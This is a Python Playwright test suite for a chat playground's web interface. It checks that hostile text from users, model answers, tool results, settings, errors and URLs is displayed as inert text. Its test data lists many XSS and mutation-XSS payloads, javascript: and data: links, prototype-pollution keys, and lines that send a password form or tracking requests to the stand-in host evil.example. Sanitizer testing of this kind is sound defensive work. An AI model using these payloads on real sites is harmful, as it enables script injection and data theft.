"""Texts that would like to be more than text, everywhere a stranger or a model can put one: they are seen, and do nothing.

That nothing happens is what every window of these tests watches for: whatever runs writes an error to the console, whatever is loaded or
navigated to is a request, and the Content-Security-Policy must never have had to step in.
"""

from __future__ import annotations

import json
from base64 import b64encode
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import expect

from browser.conftest import Open
from browser.stage import Pieces, Stage, staged
from browser.window import Window
from dooers import WorkerEvent
from dooers.schema import SettingsField, SettingsFieldGroup, SettingsFieldType, SettingsSchema, SettingsSelectOption

RUN = "console.error(`it ran`)"
TEXTS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<svg onload='{RUN}'><a xlink:href='javascript:{RUN}'><text y=9>svg</text></a></svg>",
    f"<svg><style><img src=x onerror='{RUN}'></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'></table></mtext></math>",
    f'<iframe srcdoc="<script>top.{RUN}</script>"></iframe>',
    f"<iframe src='javascript:{RUN}'></iframe>",
    "<form action='https://evil.example/form'><button>send</button><input name=password></form>",
    "<style>@import 'https://evil.example/s.css'; * { background: url(https://evil.example/b.png) }</style>",
    "<div style='background: url(https://evil.example/d.png); position: fixed; inset: 0'>cover</div>",
    "<link rel=stylesheet href='https://evil.example/l.css'><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/m'>",
    f"<details open ontoggle='{RUN}'><summary>d</summary></details>",
    f"<input autofocus onfocus='{RUN}'>",
    "<video src='https://evil.example/v.mp4' autoplay></video><audio src='https://evil.example/a.mp3' autoplay></audio>",
    "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'>",
    "<a id=message name=app href='https://evil.example/clobber'>clobber</a><form id=app></form>",
    "<template><script>console.error('it ran')</script></template><dialog open>boo</dialog>",
    "${console.error(`it ran`)} {{constructor.constructor('return 1')()}} <?lit$123$?> <!--?lit$--> lit-part",
    "\u202egnp.exe\u2066 \u0000 \ud83d\ude00 &lt;script&gt; &#60;script&#62;",
]
# What Markdown could make of a text.
MARKDOWN = [
    f"[a](javascript:{RUN})",
    "[b](JaVaScRiPt&colon;alert(1))",
    "[c](java\tscript:alert(1))",
    "[d](data:text/html,<script>alert(1)</script>)",
    "[e](vbscript:msgbox(1))",
    "[f]: javascript:alert(1)\n\n[f]",
    "<javascript:alert(1)>",
    "![tracker](https://evil.example/pixel.png?who=you)",
    "![x](https://evil.example/x.png 'onerror=alert(1)')",
    "![y](javascript:alert(1))",
    "[![z](https://evil.example/z.png)](javascript:alert(1))",
    "```html\n<script>console.error('it ran')</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | ![t](//evil.example/t.png) |",
    "> <script>console.error('it ran')</script>",
    "[g](//evil.example/scheme-relative) [h](blob:https://evil.example/x) [i](filesystem:x) [j](file:///etc/passwd)",
    "```<img src=x onerror=console.error`it ran`>\ncode\n```",
]
HOSTILE = "\n\n".join(TEXTS + MARKDOWN)
# The same for where one line is shown.
LINE = f"<img src=x onerror={RUN}><script>{RUN}</script>[l](javascript:{RUN})"
KEYS = ("__proto__", "constructor", "toString", "hasOwnProperty", "then", LINE)


async def harmless(window: Window) -> None:
    """What is in the page is the page's own: no script but its one, no frame, no form that goes anywhere, no link to code."""
    strange = await window.page.evaluate(
        """() => [
            ...[...document.querySelectorAll("script")].slice(1),
            ...document.querySelectorAll("iframe, object, embed, base, link:not(head link), style, meta:not(head meta), video, audio"),
            ...document.querySelectorAll("form[action], [srcdoc], [formaction], [ping], [style*='url']"),
            ...[...document.querySelectorAll("a[href]")].filter((a) => !["http:", "https:"].includes(a.protocol)),
            ...[...document.querySelectorAll("a[href]")].filter((a) => a.host !== location.host && !/noopener|noreferrer/.test(a.rel)),
            ...[...document.querySelectorAll("img")].filter((i) => !/^data:image/.test(i.src)),
            ...[...document.querySelectorAll("*")].filter((e) => e.getAttributeNames().some((name) => name.startsWith("on"))),
        ].map((e) => e.outerHTML)"""
    )
    assert strange == []
    # Nor does it push anything aside.
    for part in await window.page.locator("nav, main, .log, .panel, .panel section").all():
        assert await part.evaluate("part => part.scrollWidth - part.clientWidth") <= 1
    assert await window.page.evaluate("Object.keys(Object.prototype).length") == 0
    assert window.unexpected() == []


def answering(*events: Any) -> Any:
    async def script(send: Any, **_: Any) -> AsyncIterator[WorkerEvent]:
        for event in events:
            yield event(send)

    return script


async def test_in_what_somebody_else_says(stage: Stage, window: Window) -> None:
    await stage.dispatch(HOSTILE, user_id=LINE, user_name=LINE, user_email=LINE, user_role=LINE, thread_title=LINE)
    await window.thread(LINE).click()
    await expect(window.log).to_contain_text(TEXTS[0])
    await expect(window.title).to_have_text(LINE)
    await harmless(window)
    await window.shot("hostile-user")


async def test_in_what_a_model_answers(stage: Stage, window: Window) -> None:
    stage.script = answering(lambda send: send.text(HOSTILE, author=LINE))
    await window.say(HOSTILE)
    await expect(window.log.get_by_role("article", name=LINE)).to_contain_text(TEXTS[0])
    await harmless(window)
    await window.shot("hostile-answer")


@pytest.mark.parametrize("size", [1, 7])
async def test_in_a_stream_that_is_cut_in_the_middle_of_everything(stage: Stage, window: Window, size: int) -> None:
    text = (
        "\n\n".join(TEXTS + MARKDOWN)
        if size > 1
        else "\n\n".join([TEXTS[1], TEXTS[5], *MARKDOWN[:4], MARKDOWN[7], MARKDOWN[11]])
    )
    pieces = Pieces()
    stage.script = pieces.script()
    await window.say("go")
    for at in range(0, len(text), size):
        await pieces.write(text[at : at + size])
        if at % (size * 40) == 0:  # let it be drawn now and then, half as it is
            await window.page.evaluate("() => new Promise(requestAnimationFrame)")
    await harmless(window)
    pieces.end()
    await expect(window.stop).to_be_hidden()
    await expect(window.log).to_contain_text(TEXTS[1])
    await harmless(window)


async def test_in_tools_images_and_documents(stage: Stage, window: Window) -> None:
    value: dict[str, Any] = json.loads(json.dumps({key: {key: HOSTILE[:200]} for key in KEYS}))
    page = f"data:text/html;base64,{b64encode(TEXTS[0].encode()).decode()}"
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='99' height='9' onload='{RUN}'><script>{RUN}</script></svg>"
    svg = f"data:image/svg+xml;base64,{b64encode(svg.encode()).decode()}"
    stage.script = answering(
        lambda send: send.tool_call(LINE, value, display_name=LINE, id="t-1"),
        lambda send: send.tool_result(LINE, value, id="t-1"),
        lambda send: send.tool_transaction("__proto__", {"__proto__": {"polluted": 1}}, HOSTILE),
        lambda send: send.image(svg, alt=LINE),
        lambda send: send.document(page, f"{LINE}.html", "text/html"),
        lambda send: send.document(f"https://evil.example/{LINE}", f"../../{LINE}", LINE),
        lambda send: send.image(f"https://evil.example/{LINE}", alt=LINE),
    )
    await window.say("go")
    cards = window.log.locator("details")
    await expect(cards).to_have_count(2)
    for card in await cards.all():
        await card.locator("summary").click()
    await expect(cards.nth(0).locator("summary")).to_contain_text(LINE)
    await expect(cards.nth(0)).to_contain_text("hasOwnProperty")
    await expect(cards.nth(1)).to_contain_text(TEXTS[0])
    await expect(window.log.get_by_role("article")).to_have_count(5)
    await harmless(window)
    # A page in a document is saved as a file. It is not opened.
    window.expected += ["download: "]
    async with window.page.expect_download() as download:
        await window.log.get_by_role("button", name="Download").first.click()
    assert not set((await download.value).suggested_filename) & set('/\\:*?"<>|')
    await harmless(window)
    await window.shot("hostile-tools")


async def test_in_settings(tmp_path: Path, open_window: Open) -> None:
    kinds = SettingsFieldType
    schema = SettingsSchema(
        [
            SettingsField("__proto__", kinds.TEXT, LINE, value=LINE, help=HOSTILE, placeholder=LINE),
            SettingsField("constructor", kinds.TEXTAREA, "b" + LINE, value=HOSTILE),
            SettingsField("c", kinds.SELECT, "c", value=LINE, options=[SettingsSelectOption(LINE, LINE)]),
            SettingsField("d", kinds.IMAGE, "d" + LINE, src=f"javascript:{RUN}"),
            SettingsField("e", kinds.IMAGE, "e", src="https://evil.example/e.png"),
            SettingsFieldGroup(
                LINE, LINE, [SettingsField("toString", kinds.TEXT, "f", max_length=5)], collapsible="open"
            ),
        ]
    )
    async with staged(tmp_path / "hostile.db", settings_schema=schema) as stage:
        window = await open_window(stage.url)
        form = await window.panel("Settings")
        await expect(form).to_contain_text(LINE)
        for name in ("__proto__", "constructor", "toString"):
            await (await stage.worker.settings()).set(name, "x")
        field = form.get_by_role("textbox", name="f", exact=True)
        await field.fill(LINE)
        await field.press("Tab")
        await expect(form.get_by_role("alert").filter(has_text="at most 5")).to_contain_text("<img src=x")
        await (await stage.worker.settings()).patch("__proto__", HOSTILE)
        await expect(form).to_contain_text(TEXTS[0])
        await harmless(window)
        await window.shot("hostile-settings")
        await window.page.close()


async def test_in_analytics_frames_and_identity(stage: Stage, window: Window) -> None:
    async def track(send: Any, analytics: Any, **_: Any) -> AsyncIterator[WorkerEvent]:
        for name in KEYS:
            await analytics.track(name, {name: HOSTILE[:3000]})
        yield send.text("done")

    stage.script = track
    analytics = await window.panel("Analytics")
    await window.say("go")
    await expect(window.log).to_contain_text("done")
    for name in KEYS:
        row = analytics.locator("details").filter(has=window.page.locator("summary", has_text=name)).first
        await row.locator("summary").click()
        await expect(row).to_contain_text("it ran")
    await harmless(window)
    await window.shot("hostile-analytics")
    frames = await window.panel("Frames")
    await frames.get_by_role("searchbox", name="Filter frames").fill("<img")
    await frames.locator("details summary").first.click()
    await harmless(window)
    identity = await window.panel("Identity")
    for label in ("Organization", "Workspace", "User", "Name", "Role"):
        await identity.get_by_role("textbox", name=label, exact=True).fill(LINE[:150])
    await identity.get_by_role("button", name="Connect").click()
    await expect(window.connection).to_have_text("Connected")
    await expect(identity).to_contain_text(LINE[:40])
    await harmless(window)


async def test_in_errors_and_the_assistants_name(tmp_path: Path, open_window: Open) -> None:
    async def fail(send: Any, **_: Any) -> AsyncIterator[WorkerEvent]:
        yield send.text("So far so good.")
        raise RuntimeError(HOSTILE)

    async with staged(tmp_path / "named.db", assistant_name=LINE, worker_id=LINE, expose_errors=True) as stage:
        stage.script = fail
        window = await open_window(stage.url)
        await expect(window.page).to_have_title(f"{LINE} · playground")
        await window.say("go")
        await expect(window.log.get_by_role("article", name="Error", exact=True)).to_contain_text("<script>")
        await harmless(window)
        await window.shot("hostile-error")
        await window.page.close()


async def test_in_the_address(stage: Stage, window: Window) -> None:
    for hash in (
        "#/__proto__",
        "#/constructor",
        f"#/{LINE}",
        "#/%00",
        "#/%E0%A4%A",
        "#javascript:alert(1)",
        "#/../../x",
    ):
        await window.page.goto(window.url + hash)
        await window.page.reload()
        await expect(window.connection).to_have_text("Connected")
        await expect(window.box).to_be_editable()
    await harmless(window)
